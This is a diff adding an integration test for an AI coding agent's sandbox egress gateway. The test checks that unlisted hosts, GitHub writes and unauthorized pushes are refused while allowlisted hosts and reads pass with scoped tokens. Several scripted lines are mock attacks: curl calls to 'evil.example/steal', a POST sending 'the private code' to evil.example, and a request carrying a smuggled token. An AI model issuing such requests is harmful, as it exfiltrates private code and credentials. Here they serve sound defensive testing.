@@ -1,0 +1,262 @@
+/**
+ * The sandbox's network through the egress gateway, on the real paths as
+ * far as this machine has them, with real Think turns on the scripted
+ * model and GitHub and the internet played by MSW:
+ *
+ * - the worker shell: the model's `curl` runs in just-bash in a Dynamic
+ *   Worker whose `globalOutbound` is the SandboxEgress entrypoint, which
+ *   asks the issue's ThinkAgent for the run's grant and lets the gateway
+ *   decide; an unlisted host and a GitHub API write are refused and
+ *   recorded (the closing comment's footer, the thread's run), a listed
+ *   host and the repository's own `network.allow` pass, and a read of the
+ *   run's repository goes with the read-only token;
+ * - the container: the WorkspaceAgent's own ContainerBackend (the real one,
+ *   "http-gateway" egress) connects to a Sandbox whose container is the
+ *   recording fake playing computerd, and the fake sends requests as the
+ *   container's programs would, through the interceptions the real host
+ *   registered (the package's WorkspaceProxy with the backend's egress
+ *   token): a clone gets the read-only token, a push to the run's branch
+ *   the write token, a push elsewhere git's own refusal, and the
+ *   container was started without internet.
+ *
+ * The gateway's decisions against a real git client and server:
+ * test/unit/egress-git.test.ts.
+ */
+import { env } from "cloudflare:workers";
+import { runInDurableObject } from "cloudflare:test";
+import { getAgentByName } from "agents";
+import { http, HttpResponse } from "msw";
+import { afterEach, describe, expect, it } from "vitest";
+import type { ContainerBackend, ContainerBackendOptions } from "@cloudflare/computer/backends/container";
+import { sessionName } from "../src/run/session-name";
+import { sandboxStub } from "../src/sandbox";
+import type { CommandRunner, WorkspaceAgent } from "../src/workspace-agent";
+import { agentFor, toolParts, uniqueRepo, waitForStatus, type TestAgent } from "./helpers";
+import { FakeContainer, RecordingFleet } from "./pool/fakes";
+import { installContainer, poolWithFleet } from "./pool/seams";
+import { FakeGitHub, serveGitHub } from "./support/github";
+import { RecordingContainer } from "./support/recording-container";
+import { TEST_GITHUB_API_URL } from "./worker";
+
+const github = new FakeGitHub();
+/** What reached the internet's side of the gateway: method, URL and the Authorization it carried. */
+const upstream: Array<{ method: string; url: string; auth: string | null; body?: string }> = [];
+const record = async (request: { method: string; url: string; headers: Headers; clone(): { text(): Promise<string> } }) => {
+  upstream.push({ method: request.method, url: request.url, auth: request.headers.get("authorization"), ...(request.method === "POST" ? { body: await request.clone().text() } : {}) });
+};
+const internet = [
+  http.get("https://registry.npmjs.org/*", async ({ request }) => {
+    await record(request);
+    return HttpResponse.json({ name: "left-pad", "dist-tags": { latest: "1.3.0" } });
+  }),
+  http.all("https://api.allowed.example/*", async ({ request }) => {
+    await record(request);
+    return HttpResponse.text("allowed by the repository");
+  }),
+  http.get(`${TEST_GITHUB_API_URL}/repos/:owner/:repo/issues/:number`, async ({ request, params }) => {
+    await record(request);
+    return HttpResponse.json({ number: Number(params.number), title: "sortNumbers puts 10 before 2", state: "open" });
+  }),
+  // The container's GitHub (the default agents': github.com), as git's smart HTTP answers it.
+  http.all("https://github.com/*", async ({ request }) => {
+    await record(request);
+    const url = new URL(request.url);
+    if (url.pathname.endsWith("/info/refs")) {
+      const service = url.searchParams.get("service");
+      return new HttpResponse(`001e# service=${service}\n0000`, { headers: { "content-type": `application/x-${service}-advertisement` } });
+    }
+    return new HttpResponse("0000", { headers: { "content-type": "application/x-git-result" } });
+  })
+];
+serveGitHub(github, internet);
+afterEach(() => {
+  upstream.length = 0;
+});
+
+type Seams = {
+  issueAgentBinding: string;
+  containersEnabled: () => boolean;
+  poolName: string;
+  containerRunner: CommandRunner;
+  containerBackendOverrides: Partial<ContainerBackendOptions>;
+  containerBackend: () => ContainerBackend | undefined;
+};
+
+async function workspaceOf(session: string) {
+  return (await getAgentByName(env.WorkspaceAgent, session)) as unknown as DurableObjectStub<WorkspaceAgent>;
+}
+
+/** The issue's WorkspaceAgent answers its sandbox's requests with the grant of `binding`'s ThinkAgent. */
+async function runBy(session: string, binding: string) {
+  await runInDurableObject(await workspaceOf(session), (instance) => {
+    (instance as unknown as Seams).issueAgentBinding = binding;
+  });
+}
+
+const TOKEN = "ghs_egressRunTOKEN00000000000000000";
+const readOnly = (repo: string) => `ghs_testReadOnly_${repo.replace(/\W/g, "_")}`;
+
+describe("the worker shell's network", () => {
+  it("goes through the gateway: unlisted hosts and GitHub writes refused and recorded, listed hosts and reads through, reads with the read-only token", async () => {
+    const repo = uniqueRepo();
+    const session = sessionName(repo, 9);
+    github.addFile(repo, ".github/agent-think.yml", "version: 1\nnetwork:\n  allow:\n    - api.allowed.example\n");
+    await runBy(session, "ReportingThinkAgent");
+    const agent = await agentFor(session, env.ReportingThinkAgent);
+    const { submissionId } = await agent.startRun({
+      session,
+      repo,
+      issueNumber: 9,
+      installationToken: TOKEN,
+      commentId: 9,
+      instruction: [
+        "TEST: run curl -s 'https://evil.example/steal?data=x'",
+        "TEST: run curl -s https://registry.npmjs.org/left-pad",
+        "TEST: run curl -s -X POST https://api.allowed.example/hook -d ok",
+        `TEST: run curl -s ${TEST_GITHUB_API_URL}/repos/${repo}/issues/9`,
+        `TEST: run curl -s -X POST -H 'authorization: token ghs_smuggled' ${TEST_GITHUB_API_URL}/repos/${repo}/issues/9/comments -d '{"body":"x"}'`,
+        "TEST: run curl -s https://evil.example/again",
+        "TEST: result reproduced Scripted."
+      ].join("\n")
+    });
+    expect((await waitForStatus(agent, submissionId)).status).toBe("completed");
+
+    const outputs = toolParts(await agent.transcript()).map((part) => (part.output as { stdout?: { text: string } } | undefined)?.stdout?.text ?? "");
+    expect(outputs[0]).toMatch(/^egress refused: evil\.example is not on this run's network allowlist; to allow it, add it to network\.allow in \.github\/agent-think\.yml/);
+    expect(outputs[1]).toContain('"left-pad"');
+    expect(outputs[2]).toBe("allowed by the repository");
+    expect(outputs[3]).toContain("sortNumbers puts 10 before 2");
+    expect(outputs[4]).toMatch(/^GitHub write refused: the sandbox may only read GitHub\..*open_pull_request/);
+    expect(outputs[5]).toMatch(/^egress refused: evil\.example/);
+
+    // Upstream: the listed hosts as sent, the read with the read-only token, and nothing else.
+    expect(upstream.filter((call) => call.url.includes(repo) || !call.url.startsWith(TEST_GITHUB_API_URL))).toEqual([
+      { method: "GET", url: "https://registry.npmjs.org/left-pad", auth: null },
+      { method: "POST", url: "https://api.allowed.example/hook", auth: null, body: "ok" },
+      { method: "GET", url: `${TEST_GITHUB_API_URL}/repos/${repo}/issues/9`, auth: `token ${readOnly(repo)}` }
+    ]);
+    expect(github.callsFor(repo).filter((call) => call.path.endsWith("/comments") && call.method === "POST" && call.auth?.includes("smuggled"))).toEqual([]);
+
+    // Recorded for the run: the closing comment names what was blocked.
+    const closing = await github.closingComment(repo, 9);
+    expect(closing).toContain("3 requests blocked: `evil.example`, `github.test`");
+  });
+});
+
+describe("the container's network", () => {
+  /** A run on `repo` whose container path is the real backend over a fake computerd, and the recording runner for its commands. */
+  async function containerRun(repo: string) {
+    const session = sessionName(repo, 5);
+    const fleet = new RecordingFleet();
+    const pool = await poolWithFleet(fleet);
+    await pool.prime();
+    const [warm] = fleet.warmed();
+    const container = new FakeContainer();
+    container.computerd = true;
+    await installContainer(sandboxStub(env, warm!), container);
+    const poolName = (await runInDurableObject(pool, (_instance, state) => state.id.name)) ?? "";
+    const runner = new RecordingContainer();
+    const workspace = await workspaceOf(session);
+    await runInDurableObject(workspace, (instance) => {
+      const seams = instance as unknown as Seams;
+      seams.containersEnabled = () => true;
+      seams.poolName = poolName;
+      seams.containerRunner = runner;
+      seams.containerBackendOverrides = { connectTimeoutMs: 5_000, heartbeatIntervalMs: 0 };
+    });
+    return { session, container, runner, workspace, sandboxId: warm! };
+  }
+
+  /**
+   * Connect the workspace's own backend (its egress registered on the
+   * container), then send what the container would, from the Sandbox (the
+   * interceptions are its I/O, as the platform's are the container's).
+   */
+  async function sendFromContainer(workspace: DurableObjectStub<WorkspaceAgent>, sandboxId: string, container: FakeContainer, requests: Array<() => Request>) {
+    const connected = await runInDurableObject(workspace, async (instance) => {
+      const backend = (instance as unknown as Seams).containerBackend();
+      if (!backend) return "no backend";
+      try {
+        await backend.connect();
+        return "connected";
+      } catch (error) {
+        return error instanceof Error ? error.message : String(error);
+      }
+    });
+    if (connected !== "connected") throw new Error(`the backend did not connect: ${connected}`);
+    return await runInDurableObject(sandboxStub(env, sandboxId), async () => {
+      const answers: Array<{ status: number; text: string }> = [];
+      for (const request of requests) {
+        const response = await container.send(request());
+        answers.push({ status: response.status, text: await response.text() });
+      }
+      return answers;
+    });
+  }
+
+  it("starts without internet, and sends every request through the gateway: reads with the read-only token, the run's push with the write token, any other push refused", async () => {
+    const repo = uniqueRepo();
+    const { session, container, runner, workspace, sandboxId } = await containerRun(repo);
+    const receivePack = (ref: string) => () => {
+      const command = `${"0".repeat(40)} ${"1".repeat(40)} ${ref}\0report-status side-band-64k`;
+      const line = `${(command.length + 4).toString(16).padStart(4, "0")}${command}`;
+      return new Request(`https://github.com/${repo}.git/git-receive-pack`, {
+        method: "POST",
+        headers: { "content-type": "application/x-git-receive-pack-request", authorization: "Basic c211Z2dsZWQ6eA==" },
+        body: `${line}0000PACK-bytes`
+      });
+    };
+    const agent = await agentFor(session);
+    const { submissionId } = await agent.startRun({
+      session,
+      repo,
+      issueNumber: 5,
+      installationToken: TOKEN,
+      commentId: 5,
+      instruction: "TEST: container echo from-the-container\nTEST: sleep 3000\nTEST: reply done"
+    });
+    // While the turn runs (its model is thinking), the container's programs send their requests.
+    for (let i = 0; i < 250 && !runner.commands().includes("from-the-container"); i++) await new Promise((resolve) => setTimeout(resolve, 20));
+    const answers = await sendFromContainer(workspace, sandboxId, container, [
+      () => new Request(`https://github.com/${repo}.git/info/refs?service=git-upload-pack`),
+      () => new Request(`https://github.com/${repo}.git/info/refs?service=git-receive-pack`),
+      receivePack("refs/heads/agent-think/issue-5"),
+      receivePack("refs/heads/main"),
+      () => new Request("https://evil.example/exfiltrate", { method: "POST", body: "the private code" })
+    ]);
+    expect((await waitForStatus(agent, submissionId)).status).toBe("completed");
+
+    // The container was started with no direct internet: only what the gateway lets out.
+    expect(container.startOptions).toEqual([expect.objectContaining({ enableInternet: false })]);
+    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200, 403]);
+    expect(answers[3]!.text).toContain("ng refs/heads/main push refused: this run may update only refs/heads/agent-think/issue-5");
+    expect(answers[4]!.text).toMatch(/^egress refused: evil\.example/);
+    const basic = (token: string) => `Basic ${btoa(`x-access-token:${token}`)}`;
+    expect(upstream.filter((call) => call.url.includes(repo))).toEqual([
+      { method: "GET", url: `https://github.com/${repo}.git/info/refs?service=git-upload-pack`, auth: basic(readOnly(repo)) },
+      { method: "GET", url: `https://github.com/${repo}.git/info/refs?service=git-receive-pack`, auth: basic(TOKEN) },
+      { method: "POST", url: `https://github.com/${repo}.git/git-receive-pack`, auth: basic(TOKEN), body: expect.stringContaining("refs/heads/agent-think/issue-5") }
+    ]);
+    // The refused push never reached GitHub, and nothing the container sent carried its own credential on.
+    expect(upstream.some((call) => call.auth?.includes("c211Z2dsZWQ6eA=="))).toBe(false);
+  });
+
+  it("between turns gets no credential at all, and no push", async () => {
+    const repo = uniqueRepo();
+    const { session, container, workspace, sandboxId } = await containerRun(repo);
+    await (await workspaceOf(session)).beginTurn({ session, submissionId: "no-such-turn" });
+    const answers = await sendFromContainer(workspace, sandboxId, container, [
+      () => new Request(`https://github.com/${repo}.git/info/refs?service=git-upload-pack`),
+      () => new Request(`https://github.com/${repo}.git/info/refs?service=git-receive-pack`)
+    ]);
+    expect(answers.map((answer) => answer.status)).toEqual([200, 403]);
+    expect(answers[1]!.text).toBe("push refused: no run is going on\n");
+    expect(upstream.filter((call) => call.url.includes(repo))).toEqual([
+      { method: "GET", url: `https://github.com/${repo}.git/info/refs?service=git-upload-pack`, auth: null }
+    ]);
+    const agent = (await agentFor(session)) as TestAgent;
+    for (const request of [{ url: `https://github.com/${repo}.git/info/refs?service=git-upload-pack`, method: "GET" }, { url: `https://github.com/${repo}.git/git-receive-pack`, method: "POST" }]) {
+      expect(await agent.egressGrant(request)).toMatchObject({ grant: { readToken: "", writeToken: "", pushBranch: null } });
+    }
+  });
+});
